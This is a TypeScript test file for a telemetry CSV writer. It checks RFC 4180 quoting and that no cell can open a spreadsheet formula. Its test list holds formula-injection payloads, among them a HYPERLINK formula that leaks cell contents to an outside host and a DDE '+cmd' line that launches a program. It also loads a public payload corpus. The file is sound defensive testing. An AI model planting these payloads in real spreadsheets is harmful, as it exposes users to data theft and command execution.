import { existsSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvRecord } from '../../src/telemetry/csv.ts';

/** A reader of RFC 4180, strict: what it cannot read throws. */
function parseRecord(text: string): string[] {
  const cells: string[] = [];
  let at = 0;
  for (;;) {
    const match = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(text.slice(at));
    if (!match) throw new Error(`no CSV at ${at}: ${JSON.stringify(text)}`);
    cells.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
    at += match[0].length;
    if (match[3] === '\r\n') {
      if (at !== text.length) throw new Error('more than one record');
      return cells;
    }
  }
}

/** As documented: one apostrophe less at the start of the cell and of every line in it. */
const undo = (cell: string): string => cell.replace(/^'|(?<=\r\n|\r(?!\n)|\n)'/g, '');

const FORMULA_START = /^[=+\-@\t\r\n\0＝＋－＠]/;
const H_E1 = [
  '=HYPERLINK("http://x/"&A1)',
  '@SUM(1)',
  "+cmd|'/C calc'!A0",
  '-2+3',
  '\t=1',
  '"=1',
  'a"\r\n=1',
  '\0=1',
  '＝1',
  '＋1',
  '－1',
  '＠1',
  ' =1',
  '\r=1',
  '\n=1',
];
const corpus = resolve('../shared/corpora/csv-injection/payloadbox.txt');
const hasCorpus = existsSync(corpus);

function expectHarmless(payload: string): void {
  const [first, cell = '', last] = parseRecord(csvRecord(['before', payload, 'after']));
  expect([first, last]).toEqual(['before', 'after']);
  expect(cell).not.toMatch(FORMULA_START);
  for (const part of cell.split(/\r\n|\r|\n/))
    expect(part.replace(/^[\s"]+/, '')).not.toMatch(/^[=+\-@＝＋－＠]/);
  expect(undo(cell)).toBe(payload);
}

describe('a CSV record', () => {
  test('is plain where nothing is special, and ends with CRLF', () => {
    expect(csvRecord(['doi:10.1/a', 12, true, null, undefined, ''])).toBe('doi:10.1/a,12,true,,,\r\n');
  });

  test('quotes separators, quotes and line ends', () => {
    expect(csvRecord(['a,b', 'say "x"', 'two\nlines'])).toBe('"a,b","say ""x""","two\nlines"\r\n');
  });

  test('leaves numbers alone, also negative ones', () => {
    expect(csvRecord([-2.5, 1e21])).toBe('-2.5,1e+21\r\n');
  });

  test.each(H_E1)('cannot start a formula: %j', (payload) => expectHarmless(payload));

  test.skipIf(!hasCorpus)('cannot start a formula with any payload of the collection', () => {
    const payloads = readFileSync(corpus, 'utf8').split('\n').filter(Boolean);
    expect(payloads.length).toBeGreaterThan(5);
    for (const payload of payloads) expectHarmless(payload);
  });

  test('gives back any text', () => {
    const text = fc.string({
      unit: fc.constantFrom('a', "'", '"', ',', '=', '-', '\r', '\n', '\t', ' ', '＝', 'ü'),
    });
    fc.assert(
      fc.property(fc.array(text, { minLength: 1 }), (cells) => {
        expect(parseRecord(csvRecord(cells)).map(undo)).toEqual(cells);
      }),
    );
  });

  test('takes linear time for a text of line ends', () => {
    expect(csvRecord(['\n'.repeat(300_000)]).length).toBeGreaterThan(300_000);
  });
});
